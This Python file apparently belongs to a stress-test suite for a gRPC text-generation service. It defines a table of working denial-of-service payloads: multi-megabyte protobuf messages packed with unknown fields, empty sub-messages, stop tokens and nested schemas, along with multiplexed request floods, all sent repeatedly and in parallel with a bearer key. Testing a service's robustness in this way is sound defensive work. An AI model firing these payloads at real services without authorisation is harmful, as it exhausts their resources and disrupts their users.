"""Messages that are expensive to read. Most of them have the maximum size."""

from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import Any

import grpc

from doherty.v1.generation_service_pb2 import CountTokensRequest, MultiplexGenerateRequest, MultiplexStart
from doherty.v1.request_pb2 import ROLE_USER, Constraint, ContinueFrom, GenerateRequest, Message, Stopping
from support.security import bearer
from target import Attack, Target

SIZE = 4_000_000
IN_A_ROW = 4
AT_ONCE = 32
GENERATE = "/doherty.v1.GenerationService/Generate"
MULTIPLEX = "/doherty.v1.GenerationService/MultiplexGenerate"
COUNT = "/doherty.v1.GenerationService/CountTokens"
LONGEST_CONVERSATION = 4_096


def call(method: str, message: bytes, *, in_a_row: int = IN_A_ROW, at_once: int = 1) -> Attack:
    """Makes the same call several times, one after the other or all at once."""

    def attack(target: Target) -> None:
        def send(_: int) -> None:
            with grpc.insecure_channel(target.address, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
                stub: Any = channel.stream_stream(method)
                with suppress(grpc.RpcError):
                    for _ in stub(iter([message]), timeout=60, metadata=bearer(target.key)):
                        pass

        with ThreadPoolExecutor(at_once) as threads:
            list(threads.map(send, range(in_a_row * at_once)))

    return attack


def flood(requests: int) -> Attack:
    """Sends one message that contains empty requests and their cancels."""
    numbers = range(1, requests + 1)
    starts = [MultiplexStart(id=number) for number in numbers]
    return call(MULTIPLEX, MultiplexGenerateRequest(starts=starts, cancels=numbers).SerializeToString(), in_a_row=1)


def _varint(number: int) -> bytes:
    """Encodes a number like protobuf."""
    low, rest = number & 0x7F, number >> 7
    return bytes([low]) if not rest else bytes([low | 0x80]) + _varint(rest)


def _field(number: int, data: bytes) -> bytes:
    """Encodes a field that holds bytes, a text or a message."""
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _start(request: bytes = b"", around: bytes = b"") -> bytes:
    return _field(1, MultiplexStart(id=1).SerializeToString() + _field(2, request) + around)


def _generate(**fields: Any) -> bytes:
    return GenerateRequest(**fields).SerializeToString()


def _choices(choices: Iterable[str]) -> bytes:
    return _field(10, _field(4, b"".join(_field(1, choice.encode()) for choice in choices)))


PROMPT = GenerateRequest(prompt="a").SerializeToString()
UNKNOWN = (_varint(31 << 3) + b"\1") * (SIZE // 3)
"""A field that the contract does not have, many times."""
EMPTY = SIZE // 2 - 8
"""The number of two-byte fields that fit into a message."""
LETTERS = "a" * (SIZE // 2)
WORDS = " because" * (SIZE // 8)
CONVERSATION = [Message(role=ROLE_USER, content="a")] * LONGEST_CONVERSATION
STARTS = [MultiplexStart(id=number) for number in range(1, 8_001)]

MESSAGES: dict[str, Attack] = {
    "multiplexed, 72 kB": flood(8_000),  # as many as a message may have
    "multiplexed, 87 kB": flood(9_600),
    "multiplexed, 0.85 MB": flood(94_000),
    "multiplexed, 1.6 MB": flood(178_000),
    "unknown fields": call(GENERATE, UNKNOWN),
    "unknown fields around a start": call(MULTIPLEX, _start(around=UNKNOWN)),
    "unknown fields in a start": call(MULTIPLEX, _start(UNKNOWN)),
    "4,000,000 token ids": call(GENERATE, _generate(token_ids=bytes(SIZE))),
    "4,000,000 ids to continue from": call(
        GENERATE, _generate(prompt="a", continue_from=ContinueFrom(token_ids=bytes(SIZE)))
    ),
    "text to continue from": call(GENERATE, _generate(prompt="a", continue_from=ContinueFrom(text=WORDS))),
    "text": call(GENERATE, _generate(raw_text=WORDS)),
    "text to count": call(COUNT, CountTokensRequest(prompt=WORDS).SerializeToString()),
    "2,000,000 empty messages": call(GENERATE, _field(4, b"") * EMPTY),
    "2,000,000 empty messages to count": call(COUNT, _field(3, b"") * EMPTY),
    "2,000,000 empty messages in a start": call(MULTIPLEX, _start(_field(4, b"") * EMPTY)),
    "2,000,000 stop texts": call(GENERATE, PROMPT + _field(7, _field(3, b"") * EMPTY)),
    "4,000,000 stop tokens": call(GENERATE, _generate(prompt="a", stopping=Stopping(stop_token_ids=bytes(SIZE)))),
    "1,300,000 choices": call(GENERATE, PROMPT + _choices(["a"] * (SIZE // 3 - 8))),
    "schema": call(GENERATE, _generate(prompt="a", constraint=Constraint(json_schema=f"[{'[],' * (SIZE // 3 - 8)}"))),
    "grammar": call(GENERATE, _generate(prompt="a", constraint=Constraint(grammar=2 * LETTERS))),
    "names": call(GENERATE, _generate(prompt="a", model=LETTERS, adapter=LETTERS[:-64])),
    "32 conversations of 4,096 messages": call(GENERATE, _generate(messages=CONVERSATION), at_once=AT_ONCE),
    "32 x 8,000 multiplexed, at once": call(
        MULTIPLEX, MultiplexGenerateRequest(starts=STARTS).SerializeToString(), in_a_row=1, at_once=AT_ONCE
    ),
}
